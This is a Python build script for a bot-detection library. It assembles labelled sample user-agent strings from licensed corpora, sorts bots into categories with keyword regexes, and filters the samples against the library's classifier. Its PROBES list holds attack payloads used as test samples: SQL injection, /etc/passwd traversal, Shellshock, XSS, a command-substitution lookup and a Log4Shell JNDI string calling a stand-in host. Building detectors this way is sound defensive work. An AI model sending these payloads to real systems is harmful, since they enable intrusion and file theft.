"""Build `botguard/data/sample_user_agents.tsv` from the labelled corpus shipped in `benchmarks/data/`.

    python scripts/build_sample_user_agents.py [DATA_DIR]

Only rows from permissively licensed collections are kept: isbot's fixtures (Unlicense) and the
`instances` of monperrus/crawler-user-agents (MIT). Bots get a category from the shared
vocabulary by the ordered keyword rules below (first match wins; "other" when none does); the
rules were written by reading the strings, and the output is reviewed by hand, so the file, not
this script, is what the library trusts. Rows are sorted, so a rebuild diffs cleanly.

A sample is for an assertion (`assert classify(ua).blocked`), so a string whose label botguard's
default rules dispute (a bot they pass, a browser they refuse) is left out: the labelled corpus
and `benchmarks/accuracy.py`, not these samples, measure the rules. Rebuild after the default
rules change (a test holds every sample to its verdict).
"""

from __future__ import annotations

import csv
import gzip
import re
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
OUT = ROOT / "botguard" / "data" / "sample_user_agents.tsv"

from botguard import classify  # noqa: E402

# Tags whose licence allows shipping the string (see botguard/data/sample_user_agents.md).
BOT_SOURCES = ("isbot/crawlers.yml", "isbot/browsers.yml#insignificant-bots", "monperrus/crawler-user-agents.json")
BROWSER_SOURCES = ("isbot/browsers.yml",)  # not "#glitches" or "#misc": those are odd strings isbot tolerates

# Ordered: the first category whose pattern is found wins. The leading "other" rule holds the
# strings that a later keyword would misfile (an ad checker that says "monitoring", say).
CATEGORIES: list[tuple[str, str]] = [
    ("other", r"Yahoo Ad monitoring|Structured-Data-Testing|certifyscan|adscanner|ContentScan|MediaMonitoringBot"
              r"|hypefactors|Google-Site-Verification|meta-externalads|SnapchatAds|W3C_Validator|MauiBot|hCardValidator"
              r"|Zendesk|YextBot|TikTokSpider|Brightbot|QualifiedBot"),
    ("ai", r"GPTBot|ChatGPT|OAI-SearchBot|ClaudeBot|Claude-|anthropic-ai|Perplexity|\bCCBot|cohere-|Bytespider"
           r"|Diffbot|YouBot|Meta-External(?:Agent|Fetcher)|ImagesiftBot|Timpibot|AI2Bot|img2dataset|DuckAssistBot"
           r"|PanguBot|Kangaroo ?Bot|iaskspider|omgili|Webzio|FriendlyCrawler|VelenPublicWebCrawler|MistralAI"
           r"|Google-Extended|GoogleOther|Google-CloudVertexBot|laion-huggingface|Devin/|\bHenkBot|KunatoCrawler"
           r"|Applebot-Extended|Amazonbot|cohere|ExteContextCrawl"),
    ("preview", r"facebookexternalhit|Facebot|Meta-ExternalHit|[Ll]ink [Pp]review|Twitterbot|Slackbot|Slack-ImgProxy"
                r"|Discordbot|WhatsApp|TelegramBot|LinkedInBot|SkypeUriPreview|Pinterest|redditbot|Embedly|Iframely"
                r"|vkShare|Google Web Preview|Google-PageRenderer|Viber|Line/|LineBot|KakaoTalk"
                r"|Snapchat(?!Ads)|Tumblr|Mastodon|Bluesky|Cardyb|UnfurlBot|Unfurl|Applebot/[0-9.]+ \(?.*preview|Teams"
                r"|Microsoft Office|Outlook|MicrosoftPreview|BingPreview|Skype|Zoom Marketplace|Synapse|SummalyBot|Iframe"),
    ("feed", r"Feed(?!back)|feed(?!back)|RSS|rss|subscribers|newsbeuter|Datafeedwatch|Superfeedr|NewsBlur|Feedly|Feedbin|Inoreader|theoldreader|Miniflux|FreshRSS"
             r"|Tiny Tiny RSS|Bloglines|Netvibes|NewsGator|Podcast|podcast|Breaker/|Overcast|Pocket Casts"
             r"|iTunes|AppleCoreMedia|Stitcher|Castro|Podnews|PodcastAddict|Flipboard|SimplePie|Blogtrottr"
             r"|Akregator|Liferea|newsboat|Tapatalk|NetNewsWire|Reeder|Readwise"),
    ("search", r"Googlebot|Google-InspectionTool|AdsBot-Google|Mediapartners-Google|APIs-Google|Storebot-Google"
               r"|FeedFetcher-Google|bingbot|msnbot|adidxbot|BingBot|Slurp|DuckDuckBot|DuckDuckGo|Baiduspider"
               r"|YandexBot|Yandex|SeznamBot|Sogou|360Spider|HaoSou|Yeti/|NaverBot|Exabot|Qwantify|Qwantbot"
               r"|PetalBot|Applebot|coccoc|MojeekBot|yacybot|Mail\.RU_Bot|BaiduSpider|ichiro|Daum|Bytedance"
               r"|SputnikBot|[Yy]eti/|YoudaoBot|Sosospider|linespider|Teoma|ia_archiver-search|Ask Jeeves|gigablast|Yahoo|Amazon-Kendra|Neevabot"
               r"|(?<!Yahoo Ad )search\.|Search(?!-)|Findxbot|Cliqzbot|Swisscows|Marginalia|Stract|Startpage|Ecosia|Brave"),
    ("seo", r"AhrefsBot|AhrefsSiteAudit|SemrushBot|SiteAuditBot|MJ12bot|DotBot|rogerbot|BLEXBot|SEOkicks|seoscanners"
            r"|Screaming Frog|SEOdiver|serpstat|Serpstat|SerendeputyBot|DataForSeoBot|Barkrowler|Seekport|linkdex"
            r"|spbot|XoviBot|SISTRIX|Sistrix|MegaIndex|LinkpadBot|ZoominfoBot|Mediatoolkit|BrandVerity|Brandwatch"
            r"|awario|Awario|HubSpot|SurveyBot|DomainTools|Linkfluence|SEO|seo|Majestic|netEstate|Siteimprove"
            r"|Lumar|deepcrawl|DeepCrawl|OnCrawl|Sitebulb|Botify|ContentKing|Cognitiveseo|BacklinkCrawler"
            r"|Backlink|LinkChkr|MBCrawler|ZoomBot|ZoominfoBot|ZoomInfo|linkcheck|LinkChecker|Link Checker|W3C-checklink|LinkWalker|LinksManager|Xenu|AspiegelBot|Website Explorer"
            r"|Wappalyzer|BuiltWith|similartech|Grapeshot|proximic|ADmantX|Mediapartners|trendictionbot|Trendiction"),
    ("monitor", r"(?i)(?<!media[- ])(?<!security )monitor(?!backlinks)|Pingdom|UptimeRobot|Uptime|uptime|StatusCake|Site24x7|NewRelic|New Relic|Datadog|Better Uptime"
                r"|Better Stack|GTmetrix|Health-Check|HTTPMon|WebGazer|PageSpeed|Chrome-Lighthouse|Lighthouse|WebPageTest|PTST/"
                r"|Catchpoint|Dynatrace|AppDynamics|ThousandEyes|nagios|Nagios|check_http|Zabbix|Icinga|Pingability"
                r"|Freshping|HetrixTools|NIXStats|nixstats|Host-Tracker|host-tracker|Alertra|Montastic|Panopta"
                r"|Checkly|checkly|Cronitor|healthcheck|HealthCheck|Healthchecks|ELB-HealthChecker|kube-probe"
                r"|GoogleStackdriverMonitoring|Pulsetic|Oh Dear"
                r"|ping\.|Ping|changedetection|ChangeDetection|Visualping|AdminLabs|WPMU|jetmon|Jetpack|ManageWP"
                r"|WP Umbrella|WPUmbrella|Site Uptime|BetterUptime|Zoho|Statuspage|LogicMonitor|Pagely"),
    ("archive", r"archive\.org|ia_archiver|Wayback|heritrix|Heritrix|archive-it|Archive-It|ArchiveTeam|warcprox"
                r"|Webrecorder|webrecorder|webarchiving|lddc_renderbot|Arquivo|archive\.today|archive\.is|Nutch.*archive|wget.*warc|BUbiNG"),
    ("scanner", r"Sansec|Nmap|nmap|Nikto|nikto|sqlmap|Acunetix|acunetix|Nessus|nessus|OpenVAS|masscan|zgrab|ZGrab"
                r"|Nuclei|nuclei|WPScan|wpscan|Qualys|qualys|Detectify|Netsparker|Invicti|Burp|burp|ZAP|OWASP"
                r"|CensysInspect|Censys|censys|Shodan|shodan|BinaryEdge|LeakIX|l9explore|Expanse|Palo Alto"
                r"|internet-measurement|InternetMeasurement|Go-http-client.*scan|dirbuster|DirBuster|gobuster"
                r"|ffuf|wfuzz|Arachni|w3af|Nimbostratus|CyberPatrol|Netcraft|NetcraftSurvey|SecurityScanner"
                r"|security|Security|vulnerab|Vulnerab|scan|Scan|Xpanse|Stretchoid|Probe|probe|Hello, World"),
    ("library", r"(?i)^go-http-client|go-resty|grpc-|http-kit|HTTP Client|OpenAI/|^curl/|curl/|^Wget|Wget/|python-requests|python-httpx|python-urllib|Python-urllib|aiohttp"
                r"|Python/|python/|Go-http-client|Go http package|okhttp|OkHttp|Apache-HttpClient|Java/|Jakarta"
                r"|libwww-perl|LWP::Simple|lwp-|WWW-Mechanize|Mechanize|HTTPie|httpie|axios|node-fetch|undici"
                r"|got \(|Node\.js|node/|PycURL|pycurl|libcurl|Ruby|Faraday|HTTPClient|httpclient|Guzzle|GuzzleHttp"
                r"|(?<![A-Za-z])PHP/\d|WinHttp|WinHTTP|Dart/|http\.rb|RestSharp|PostmanRuntime|insomnia|reqwest|\bRust/|hyper/"
                r"|Scrapy|scrapy|colly|HeadlessChrome|PhantomJS|Puppeteer|puppeteer|Playwright|Selenium|Apache-CXF"
                r"|Typhoeus|Zend_Http|Wget|urlgrabber|Jersey|Dalvik.*okhttp|Deno/|Bun/|lua-resty|ReactorNetty"
                r"|Java-http-client|Jetty|Powershell|PowerShell|WindowsPowerShell|^aria2|Mozilla/5.0 \(compatible\)$"
                r"|^Mozilla/\d\.\d$|^-$|^\.?$|^node|^okhttp|^Go |^Ruby|^Python|^Java|^Apache"),
]
COMPILED = [(name, re.compile(pattern)) for name, pattern in CATEGORIES]


# Attack probes: none of the collections above holds one, so a few are written here, one per
# class of attack syntax the default detector knows (category "probe"; source "botguard").
PROBES: tuple[str, ...] = (
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "$(nslookup probe.example.org)",
    "() { :; }; echo; /bin/cat /etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://probe.example.org/a}",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
)


def category_of(user_agent: str) -> str:
    for name, pattern in COMPILED:
        if pattern.search(user_agent):
            return name
    return "other"


def rows(data: Path) -> list[tuple[str, str, str, str]]:
    out: dict[str, tuple[str, str, str, str]] = {}
    for kind, file, allowed in (("bot", "ua-bots.tsv", BOT_SOURCES), ("browser", "ua-humans.tsv", BROWSER_SOURCES)):
        path = data / file
        opened = open(path, newline="", encoding="utf-8") if path.exists() else gzip.open(data / f"{file}.gz", "rt", newline="", encoding="utf-8")
        with opened as fh:
            for row in csv.DictReader(fh, delimiter="\t", quoting=csv.QUOTE_NONE):
                tags = row["source"].split(",")
                kept = [t for t in tags if t in allowed]
                ua = row["user_agent"]
                if not kept or not ua.strip() or ua != ua.strip():
                    continue
                category = category_of(ua) if kind == "bot" else ""
                out[ua] = (kind, category, ",".join(sorted(kept)), ua)
    for ua in PROBES:
        out[ua] = ("bot", "probe", "botguard", ua)
    # Only what the default rules agree with (see the module's docstring).
    return sorted(row for row in out.values() if classify(row[3]).blocked == (row[0] == "bot"))


def main() -> None:
    data = Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "benchmarks" / "data"
    built = rows(data)
    OUT.parent.mkdir(parents=True, exist_ok=True)
    with open(OUT, "w", newline="", encoding="utf-8") as fh:
        fh.write("kind\tcategory\tsource\tuser_agent\n")
        for row in built:
            fh.write("\t".join(row) + "\n")
    counts: dict[str, int] = {}
    for kind, category, _, _ in built:
        counts[f"{kind}:{category}"] = counts.get(f"{kind}:{category}", 0) + 1
    print(f"wrote {len(built)} rows to {OUT.relative_to(ROOT)}: {dict(sorted(counts.items()))}")


if __name__ == "__main__":
    main()
